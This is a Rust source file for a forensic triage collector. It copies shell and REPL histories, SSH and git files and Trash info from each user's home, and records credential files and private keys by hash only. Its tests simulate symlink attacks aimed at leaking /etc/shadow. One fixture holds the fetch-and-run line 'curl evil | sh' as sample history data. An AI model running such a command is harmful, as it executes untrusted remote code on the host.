//! `User traces/` (triage): for every home, what its user typed and reached beyond the
//! shell histories of `Shell histories/`: other shells' and REPLs' histories, SSH client
//! and server files (`known_hosts`, `config`, `authorized_keys`, public keys), git
//! configuration, recently used files and Trash info, as `<user>/<path in the home>`;
//! `index.csv` lists every file found. Private keys (`~/.ssh/id_*`, or any file holding
//! one) and stored credentials (`.git-credentials`, `.netrc`, …) go to `secrets.csv` by
//! name, size, owner, times and hash only.
//!
//! A file is opened relative to the home's descriptor through no link at all below the
//! home, and only if its user owns it (see [`open_home_file`]): a user cannot link
//! `~/.ssh` to `/etc`, before the walk or while it runs, to have the agent copy
//! `/etc/shadow`.

use std::fs::File;
use std::io;
use std::path::Path;

use casefile_package::ItemSink;

use crate::{CollectError, Collector, Context};

use super::accounts::{Home, homes, open_home_file};
use super::common::{Problems, UniqueNames, dir_entries, is_missing, name_part};
use super::copies::{Stat, Status, Taking, Wanted, shown};
use super::histories::HISTORY_FILES;

pub struct UserTraces;

/// Files copied from each home: the path in the home and whether to keep the newest
/// part of a file over the cap (histories) rather than its start.
const TRACE_FILES: [(&str, bool); 19] = [
    (".ksh_history", true),
    (".tcsh_history", true),
    (".config/fish/fish_history", true),
    (".node_repl_history", true),
    (".sqlite_history", true),
    (".rediscli_history", true),
    (".irb_history", true),
    (".Rhistory", true),
    (".scala_history", true),
    (".dbshell", true),
    (".mongosh/mongosh_repl_history", true),
    (".gdb_history", true),
    (".julia/logs/repl_history.jl", true),
    (".local/share/nano/search_history", true),
    (".wget-hsts", false),
    (".gitconfig", false),
    (".config/git/config", false),
    (".local/share/recently-used.xbel", false),
    (".selected_editor", false),
];

/// Files whose content is a credential: listed by hash only.
const SECRET_FILES: [(&str, &str); 9] = [
    (".git-credentials", "git credentials"),
    (".config/git/credentials", "git credentials"),
    (".netrc", "stored passwords"),
    (".pgpass", "PostgreSQL passwords"),
    (".my.cnf", "MySQL client configuration (may hold a password)"),
    (".aws/credentials", "AWS keys"),
    (".docker/config.json", "registry credentials"),
    (".kube/config", "Kubernetes credentials"),
    (".config/gh/hosts.yml", "GitHub tokens"),
];

/// Directories whose files are looked at one by one.
const SSH_DIR: &str = ".ssh";
const TRASH_INFO: &str = ".local/share/Trash/info";

impl Collector for UserTraces {
    fn name(&self) -> &'static str {
        "user_traces"
    }

    fn folder(&self) -> &'static str {
        "User traces"
    }

    fn collect(&self, ctx: &Context, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
        let sink: &mut dyn ItemSink = &mut UniqueNames::new(sink);
        let mut taking = Taking::new(ctx);
        for home in homes(ctx) {
            let mut traces = Traces { ctx, home: &home, taking: &mut taking };
            traces.collect(sink)?;
            ctx.check_cancelled()?;
        }
        let source = "~/.ssh, ~/.gitconfig, REPL histories, … of every home in /etc/passwd and /root";
        taking.write(sink, source, "no traces in any home")?;
        ctx.check_cancelled()
    }
}

/// The traces of one home.
struct Traces<'a> {
    ctx: &'a Context,
    home: &'a Home,
    taking: &'a mut Taking,
}

impl Traces<'_> {
    fn collect(&mut self, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
        // What `Shell histories/` takes stays there when it runs; without it, here.
        let histories = self.ctx.runs("histories");
        for (rel, name) in HISTORY_FILES {
            if !histories {
                self.file(sink, rel, rel, true)?;
            } else if let Some((abs, stat, _)) = self.found(rel) {
                let note =
                    format!("taken by the standard histories collector: Shell histories/{}/{name}", self.home.label);
                self.taking.index.left_out(abs, stat, &self.home.label, Status::Elsewhere, note);
            }
        }
        for (rel, tail) in TRACE_FILES {
            // Never twice: what `Shell histories/` takes stays there.
            if HISTORY_FILES.iter().any(|(taken, _)| *taken == rel) {
                continue;
            }
            self.file(sink, rel, rel, tail)?;
        }
        for (rel, reason) in SECRET_FILES {
            if let Some((abs, stat, path)) = self.found(rel) {
                let file = self.open(&path);
                let wanted = Wanted { abs: &abs, name: "", stat, category: &self.home.label, tail: false };
                self.taking.secret(&wanted, file, reason);
            }
        }
        self.ssh(sink)?;
        self.trash(sink)
    }

    /// `rel` in the home, when it exists: its path as shown, its metadata (not
    /// following a link) and its path below the root.
    fn found(&mut self, rel: impl AsRef<Path>) -> Option<(String, Stat, std::path::PathBuf)> {
        let path = self.ctx.path(&self.home.dir).join(rel);
        match path.symlink_metadata() {
            Ok(meta) => Some((shown(self.ctx, &path), Stat::of(&meta), path)),
            Err(e) if is_missing(&e) => None,
            Err(e) => {
                self.taking.index.problems.add("unreadable home files", format!("{}: {e}", shown(self.ctx, &path)));
                None
            }
        }
    }

    /// Opens a file of the home (see the module's note on links).
    fn open(&self, path: &Path) -> io::Result<File> {
        open_home_file(&self.ctx.path(&self.home.dir), path, self.home.uid)
    }

    /// Copies `rel` of the home as `<user>/<name>` if it exists.
    fn file(
        &mut self,
        sink: &mut dyn ItemSink,
        rel: impl AsRef<Path>,
        name: &str,
        tail: bool,
    ) -> Result<(), CollectError> {
        self.ctx.check_cancelled()?;
        let Some((abs, stat, path)) = self.found(rel) else {
            return Ok(());
        };
        if stat.kind != "file" && stat.kind != "symlink" {
            self.taking.index.not_a_file(abs, &path, stat, &self.home.label);
            return Ok(());
        }
        let file = self.open(&path);
        let item = format!("{}/{name}", self.home.label);
        let wanted = Wanted { abs: &abs, name: &item, stat, category: &self.home.label, tail };
        Ok(self.taking.take(sink, &wanted, file)?)
    }

    /// `~/.ssh`: client and server files and public keys copied; private keys (`id_*`
    /// without `.pub`, or any file holding a key) listed as secrets.
    fn ssh(&mut self, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
        for entry in self.entries(SSH_DIR) {
            let rel = Path::new(SSH_DIR).join(&entry);
            let entry = entry.to_string_lossy().into_owned();
            if entry.starts_with("id_") && !entry.ends_with(".pub") {
                if let Some((abs, stat, path)) = self.found(&rel) {
                    let file = self.open(&path);
                    let wanted = Wanted { abs: &abs, name: "", stat, category: &self.home.label, tail: false };
                    self.taking.secret(&wanted, file, "SSH private key");
                }
                continue;
            }
            self.file(sink, &rel, &format!("{SSH_DIR}/{}", name_part(&entry)), false)?;
        }
        Ok(())
    }

    /// `~/.local/share/Trash/info/*.trashinfo`: where each trashed file came from, and
    /// when it was deleted.
    fn trash(&mut self, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
        for entry in self.entries(TRASH_INFO) {
            let rel = Path::new(TRASH_INFO).join(&entry);
            let entry = entry.to_string_lossy().into_owned();
            if entry.ends_with(".trashinfo") {
                self.file(sink, &rel, &format!("{TRASH_INFO}/{}", name_part(&entry)), false)?;
            }
        }
        Ok(())
    }

    /// The names in directory `rel` of the home, if it is a directory of its own (not a
    /// link) inside the home.
    fn entries(&mut self, rel: &str) -> Vec<std::ffi::OsString> {
        let abs = format!("{}/{rel}", self.home.dir.trim_end_matches('/'));
        let path = self.ctx.path(&abs);
        let own_dir = path.symlink_metadata().is_ok_and(|m| m.is_dir());
        if !own_dir || (self.home.uid != 0 && !inside_home(self.ctx, self.home, &path.join("x"))) {
            return Vec::new();
        }
        let mut problems = Problems::default();
        let names = dir_entries(self.ctx, &abs, &mut problems);
        self.taking.index.problems.merge(&problems);
        names
    }
}

/// Whether the directories on the way to `path` stay inside the home once links are
/// resolved.
fn inside_home(ctx: &Context, home: &Home, path: &Path) -> bool {
    let home_dir = ctx.path(&home.dir).canonicalize();
    let parent = path.parent().map(Path::canonicalize);
    match (home_dir, parent) {
        (Ok(home_dir), Some(Ok(parent))) => parent.starts_with(home_dir),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;

    use casefile_package::ItemStatus;
    use sha2::{Digest, Sha256};

    use crate::collectors::copies::testing::{assert_nowhere, run_cancelled};
    use crate::collectors::test_support::{Fixture, MemorySink, PASSWD_FIXTURE, find_row, run};

    use super::*;

    fn rows(sink: &MemorySink, name: &str) -> Vec<HashMap<String, String>> {
        sink.item(name).rows()
    }

    /// Gives `abs` to `uid` (the tests run as root; otherwise ownership stays).
    fn chown(f: &Fixture, abs: &str, uid: u32) {
        let _ = std::os::unix::fs::lchown(f.path(abs), Some(uid), None);
    }

    #[test]
    fn traces_of_every_home_are_copied_and_keys_listed_by_hash() {
        let f = Fixture::new();
        f.write("/etc/passwd", PASSWD_FIXTURE);
        f.write("/home/alice/.ssh/known_hosts", "github.com ssh-ed25519 AAAA\n");
        f.write("/home/alice/.ssh/config", "Host jump\n  HostName 10.0.0.1\n");
        f.write("/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA alice@laptop\n");
        f.write("/home/alice/.ssh/authorized_keys2", "ssh-rsa AAAA old\n");
        let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nKEYMARK-id\n-----END OPENSSH PRIVATE KEY-----\n";
        f.write("/home/alice/.ssh/id_ed25519", key);
        f.write("/home/alice/.ssh/id_ed25519.pub", "ssh-ed25519 AAAA alice\n");
        f.write("/home/alice/.ssh/deploy", "-----BEGIN RSA PRIVATE KEY-----\nKEYMARK-deploy\n");
        f.write("/home/alice/.gitconfig", "[user]\n  name = Alice\n");
        f.write("/home/alice/.config/git/config", "[core]\n");
        f.write("/home/alice/.git-credentials", "https://alice:KEYMARK-token@github.com\n");
        f.write("/home/alice/.netrc", "machine x login a password KEYMARK-netrc\n");
        f.write("/home/alice/.node_repl_history", "require('child_process')\n");
        f.write("/home/alice/.ksh_history", "uname -a\n");
        f.write("/home/alice/.wget-hsts", "github.com 0 1 1700000000 31536000\n");
        f.write("/home/alice/.local/share/recently-used.xbel", "<xbel/>\n");
        f.write("/home/alice/.local/share/Trash/info/loot.tar.trashinfo", "[Trash Info]\nPath=/tmp/loot.tar\n");
        f.write("/home/alice/.local/share/Trash/files/loot.tar", "not taken\n");
        f.write("/home/alice/.bash_history", "standard\n");
        f.write("/root/.python_history", "standard\n");
        f.write("/root/.sqlite_history", "select 1;\n");
        f.give_homes();
        let sink = run(&UserTraces, f.root());

        assert_nowhere(&sink, "KEYMARK");
        for (name, text) in [
            ("alice/.ssh/known_hosts", "github.com ssh-ed25519 AAAA\n"),
            ("alice/.ssh/authorized_keys2", "ssh-rsa AAAA old\n"),
            ("alice/.ssh/id_ed25519.pub", "ssh-ed25519 AAAA alice\n"),
            ("alice/.gitconfig", "[user]\n  name = Alice\n"),
            ("alice/.config/git/config", "[core]\n"),
            ("alice/.node_repl_history", "require('child_process')\n"),
            ("alice/.ksh_history", "uname -a\n"),
            ("alice/.local/share/Trash/info/loot.tar.trashinfo", "[Trash Info]\nPath=/tmp/loot.tar\n"),
            ("root/.sqlite_history", "select 1;\n"),
        ] {
            assert_eq!(sink.item(name).text(), text, "{name}");
        }
        assert_eq!(sink.item("alice/.ssh/config").source, "/home/alice/.ssh/config");
        assert_eq!(sink.item("alice/.local/share/recently-used.xbel").status(), ItemStatus::Ok);
        // Never twice: the standard histories collector has these.
        assert!(!sink.names().contains(&"alice/.bash_history"));
        assert!(!sink.names().contains(&"root/.python_history"));
        assert!(!sink.names().iter().any(|n| n.contains("Trash/files")));

        let secrets = rows(&sink, "secrets.csv");
        let id = find_row(&secrets, "path", "/home/alice/.ssh/id_ed25519");
        assert_eq!(
            (id["reason"].as_str(), id["sha256"].clone()),
            ("SSH private key", hex::encode(Sha256::digest(key)))
        );
        assert_eq!(find_row(&secrets, "path", "/home/alice/.ssh/deploy")["reason"], "holds a private key");
        assert_eq!(find_row(&secrets, "path", "/home/alice/.git-credentials")["reason"], "git credentials");
        assert_eq!(find_row(&secrets, "path", "/home/alice/.netrc")["reason"], "stored passwords");
        let index = rows(&sink, "index.csv");
        let standard = find_row(&index, "path", "/home/alice/.bash_history");
        assert_eq!(standard["status"], "elsewhere");
        assert_eq!(standard["note"], "taken by the standard histories collector: Shell histories/alice/.bash_history");
        let known = find_row(&index, "path", "/home/alice/.ssh/known_hosts");
        assert_eq!((known["category"].as_str(), known["status"].as_str()), ("alice", "copied"));
    }

    /// A profile without the standard `histories` collector: the shell histories come here.
    #[test]
    fn without_the_standard_histories_collector_the_histories_come_here() {
        let f = Fixture::new();
        f.write("/etc/passwd", PASSWD_FIXTURE);
        f.write("/home/alice/.bash_history", "curl evil | sh\n");
        f.give_homes();
        let running: std::sync::Arc<[String]> = vec!["user_traces".to_owned()].into();
        let ctx = Context { root: f.root().to_path_buf(), running: Some(running), ..Context::live(Default::default()) };
        let mut sink = crate::collectors::test_support::MemorySink::default();
        UserTraces.collect(&ctx, &mut sink).unwrap();
        assert_eq!(sink.item("alice/.bash_history").text(), "curl evil | sh\n");
    }

    #[test]
    fn trace_files_are_not_those_of_the_standard_histories() {
        for (rel, _) in TRACE_FILES {
            assert!(!HISTORY_FILES.iter().any(|(taken, _)| *taken == rel), "{rel} is taken by Shell histories/");
        }
    }

    #[test]
    fn links_out_of_the_home_fifos_and_hostile_names_leak_nothing() {
        let f = Fixture::new();
        f.write("/etc/passwd", PASSWD_FIXTURE);
        f.write("/etc/shadow", "root:LEAKMARK-shadow\n");
        f.write("/etc/ssh/known_hosts", "LEAKMARK-etc\n");
        f.mkdir("/home/alice");
        f.mkdir("/home/bob/.ssh");
        chown(&f, "/home/alice", 1000);
        chown(&f, "/home/bob", 1001);
        // alice links her ~/.ssh to /etc/ssh and ~/.gitconfig to /etc/shadow.
        f.symlink(f.path("/etc/ssh"), "/home/alice/.ssh");
        f.symlink(f.path("/etc/shadow"), "/home/alice/.gitconfig");
        f.mkdir("/home/alice/.config");
        f.symlink(f.path("/etc"), "/home/alice/.config/git");
        f.write("/etc/config", "LEAKMARK-etc-config\n");
        f.fifo("/home/bob/.ssh/config");
        f.symlink("known_hosts", "/home/bob/.ssh/known_hosts");
        std::fs::write(f.path("/home/bob/.ssh").join(OsStr::from_bytes(b"authorized_keys\n\xff")), "k\n").unwrap();
        f.give_homes();
        let sink = run(&UserTraces, f.root());

        assert_nowhere(&sink, "LEAKMARK");
        let index = rows(&sink, "index.csv");
        let fifo = find_row(&index, "path", "/home/bob/.ssh/config");
        assert_eq!((fifo["type"].as_str(), fifo["status"].as_str()), ("fifo", "listed"));
        let shadow = find_row(&index, "path", "/home/alice/.gitconfig");
        assert_eq!(shadow["status"], "not copied");
        assert!(shadow["note"].starts_with("not opened: "), "{shadow:?}");
        let through = find_row(&index, "path", "/home/alice/.config/git/config");
        assert_eq!(through["note"], "not opened: reached through a symbolic link");
        assert!(!index.iter().any(|r| r["path"].starts_with("/home/alice/.ssh/")), "a linked ~/.ssh is not entered");
        let odd = find_row(&index, "path", "/home/bob/.ssh/authorized_keys\\n\\xff");
        assert_eq!(sink.item(&odd["output"]).text(), "k\n");
        assert_eq!(find_row(&index, "path", "/home/bob/.ssh/known_hosts")["status"], "not copied", "a link loop");
    }

    #[test]
    fn a_cancelled_collection_stops() {
        let f = Fixture::new();
        f.write("/root/.gitconfig", "[user]\n");
        let sink = run_cancelled(&UserTraces, f.root());
        assert!(!sink.names().contains(&"root/.gitconfig"));
    }
}
